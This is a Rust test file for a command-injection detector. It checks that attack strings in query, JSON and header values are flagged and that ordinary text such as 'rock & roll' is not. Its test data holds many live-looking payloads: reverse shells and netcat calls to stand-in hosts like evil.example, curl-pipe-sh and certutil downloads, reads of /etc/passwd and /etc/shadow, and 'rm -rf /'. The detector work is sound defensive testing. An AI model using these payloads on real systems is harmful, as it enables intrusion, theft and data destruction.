use super::*;
use crate::report::ValueKind;

fn check(v: &str, kind: ValueKind) -> Option<Hit> {
    crate::detect::run(&CommandInjection, v, kind)
}

fn critical(v: &str, kind: ValueKind) -> bool {
    check(v, kind).is_some_and(|h| h.severity == Severity::Critical && h.paranoia == 1)
}

#[test]
fn separators_and_commands() {
    for v in [
        "; cat /etc/passwd",
        "| id",
        "127.0.0.1; whoami",
        "127.0.0.1 && cat /etc/shadow",
        "8.8.8.8 | nc attacker.example 4444 -e /bin/sh",
        "`id`",
        "$(whoami)",
        "x$(curl -s http://evil.example/p.sh|sh)",
        "|| uname -a",
        "; rm -rf / --no-preserve-root",
        "127.0.0.1\nid",
        "a\nwhoami",
        ";cat${IFS}/etc/passwd",
        "$(cat</etc/passwd)",
        "; c'a't /e\"t\"c/pa's's'wd",
        "; /bin/ca? /et?/pass??",
        "& ping -n 5 127.0.0.1 &",
        "| type C:\\Windows\\win.ini",
        "& dir c:\\",
        "& powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"",
        "| cmd.exe /c whoami",
        "; python3 -c 'import os;os.system(\"id\")'",
        "; perl -e 'exec \"/bin/sh\"'",
        "; sleep 10",
        "`sleep 5`",
        "$(sleep 5)",
        "| curl http://evil.example/$(hostname)",
        "; nslookup $(whoami).evil.example",
        "report.pdf; mail attacker@evil.example < /etc/passwd",
        "; /usr/bin/id",
        "a|/bin/sh -c 'id'",
        "google.com;ifconfig",
        "x && net user hacker P@ss123 /add",
        "; find / -perm -4000 2>/dev/null",
        "; exec 5<>/dev/tcp/evil.example/80",
        "\"; system('id'); \"",
        "; php -r 'system(\"id\");'",
        "|| ping -c 10 127.0.0.1 ||",
        "; env",
        "; awk 'BEGIN {system(\"id\")}'",
        "; xterm -display 10.0.0.1:1",
        "| telnet evil.example 23",
        "& certutil -urlcache -split -f http://evil.example/x.exe x.exe",
        "; /bin/bash -c \"id\"",
        "127.0.0.1 ; ps aux",
        "$(id>/tmp/pwned)",
        "; ruby -e 'exec \"id\"'",
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        "() { :;}; echo; /usr/bin/id",
        "; echo c2hlbGw= | base64 -d | sh",
        "$(echo${IFS}aWQ=|base64${IFS}-d|bash)",
        "file.txt && tar czf /tmp/x.tgz /etc",
        "; chmod 777 /etc/passwd",
        "; ls -la /root",
        "<(id)",
        "a;bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "; wget http://evil.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
        "%3B%20cat%20%2Fetc%2Fpasswd",
        "%24%28whoami%29",
        "\\u0024\\u0028whoami\\u0029",
    ] {
        for kind in [ValueKind::Query, ValueKind::JsonString, ValueKind::Header] {
            assert!(critical(v, kind), "{v} {kind:?}: {:?}", check(v, kind));
        }
    }
}

#[test]
fn weaker() {
    // A command at the start of a value with plain arguments.
    assert!(check("cat /etc/passwd", ValueKind::Query).is_some_and(|h| h.paranoia >= 2));
    // Markdown code in prose: a recon command counts from a higher level;
    // developer tooling not at all.
    assert!(
        check(
            "To see who you are, run `whoami` in your terminal please",
            ValueKind::JsonString
        )
        .is_some_and(|h| h.paranoia >= 2)
    );
    assert_eq!(
        check(
            "To list the files, run `ls -la` in your terminal please",
            ValueKind::JsonString
        ),
        None
    );
}

#[test]
fn developer_tooling_quoted_in_prose() {
    for v in [
        "I read history with git log --oneline --graph | less and review with git diff main",
        "To free space I ran `rm -rf node_modules && npm ci` and the build went green again.",
        "Shell into the db: docker exec -it $(docker ps -qf name=db) psql -U app",
        "I start it with docker run --rm -v $(pwd)/data:/data postgres:16 and then migrate.",
        "Which folder is big? du -sh * | sort -h | tail -5 answers it in a second.",
    ] {
        let h = check(v, ValueKind::JsonString);
        assert!(h.is_none_or(|h| h.paranoia >= 2), "{v}: {h:?}");
    }
    // The same tools with sensitive arguments, or outside prose, still
    // count at level 1.
    for (v, kind) in [
        (
            "see the notes; git log | cat /etc/passwd and send it to me please",
            ValueKind::JsonString,
        ),
        ("a.txt; rm -rf /tmp/x", ValueKind::Query),
        ("a.txt | ls -la /", ValueKind::Query),
    ] {
        assert!(critical(v, kind), "{v}: {:?}", check(v, kind));
    }
}

#[test]
fn benign() {
    for (v, kind) in [
        ("rock & roll t-shirt", ValueKind::Query),
        ("tom & jerry dvd", ValueKind::Query),
        (
            "Tom & Jerry; python is great fun for kids",
            ValueKind::JsonString,
        ),
        ("salt & pepper", ValueKind::Query),
        ("R&D department", ValueKind::Query),
        ("Q&A", ValueKind::Query),
        ("AT&T", ValueKind::Query),
        ("fish &amp; chips", ValueKind::Query),
        ("&copy; 2024 Example", ValueKind::Query),
        ("name|id|email", ValueKind::Query),
        ("yes|no", ValueKind::Query),
        ("type|name", ValueKind::Query),
        (
            "| Name | Type | Default |\n|---|---|---|\n| id | string | - |",
            ValueKind::JsonString,
        ),
        ("| id | name |", ValueKind::Query),
        (
            "prefs=currency:EUR|lang:de|tz:Europe/Berlin",
            ValueKind::Cookie,
        ),
        ("sid=abc; theme=dark", ValueKind::Cookie),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
            ValueKind::Header,
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            ValueKind::Header,
        ),
        (
            "The cat sat on the mat; the dog ran away",
            ValueKind::JsonString,
        ),
        (
            "I ran ps aux | grep nginx and it shows nothing, please help",
            ValueKind::JsonString,
        ),
        (
            "Notes:\nls is short for list\ncat means concatenate",
            ValueKind::JsonString,
        ),
        (
            "Please find attached; type your answer below",
            ValueKind::JsonString,
        ),
        ("farm; the harm is small", ValueKind::Query),
        ("firmware update", ValueKind::Query),
        ("dogs; cats", ValueKind::Query),
        ("Ciao; come stai? Bene & tu?", ValueKind::JsonString),
        ("東京; 大阪 | 京都", ValueKind::Query),
        ("const x = a || b; return x && y;", ValueKind::JsonString),
        ("SGVsbG8gd29ybGQ7IGNhdCAvZXRjL3Bhc3N3ZA==", ValueKind::Query),
        ("Price: $5 (was $7); save 30%", ValueKind::Query),
        ("2 + 2 = 4; 3 * 3 = 9", ValueKind::Query),
        (
            "query Search($term: String!) { search(term: $term) { id title } }",
            ValueKind::JsonString,
        ),
        ("jQuery: $(document).ready(fn)", ValueKind::JsonString),
        ("Hello\nWorld", ValueKind::JsonString),
        ("line one\nmore text here", ValueKind::JsonString),
        ("a; b; c", ValueKind::Query),
        ("sort=-created_at", ValueKind::Query),
        ("fields=id,name,email,created_at", ValueKind::Query),
    ] {
        let h = check(v, kind);
        assert!(
            h.is_none() || h.is_some_and(|h| h.paranoia >= 2),
            "{v:?} {kind:?}: {h:?}"
        );
    }
}

#[test]
fn corpus_false_positives() {
    for (v, kind) in [
        (
            "https://example.com/search?q=select+all&sort=desc",
            ValueKind::Query,
        ),
        (
            "I'd like to update my shipping address a",
            ValueKind::JsonString,
        ),
        (
            "I'd like to update my shipping address and delete the old one from my account.",
            ValueKind::JsonString,
        ),
        (
            "query Search($term: String!) { search(term: $term) { id title } }",
            ValueKind::JsonString,
        ),
        ("id", ValueKind::JsonString),
        ("export", ValueKind::Path),
        ("A", ValueKind::JsonString),
    ] {
        let h = check(v, kind);
        assert!(
            h.is_none() || h.is_some_and(|h| h.paranoia >= 4),
            "{v:?} {kind:?}: {h:?}"
        );
    }
}
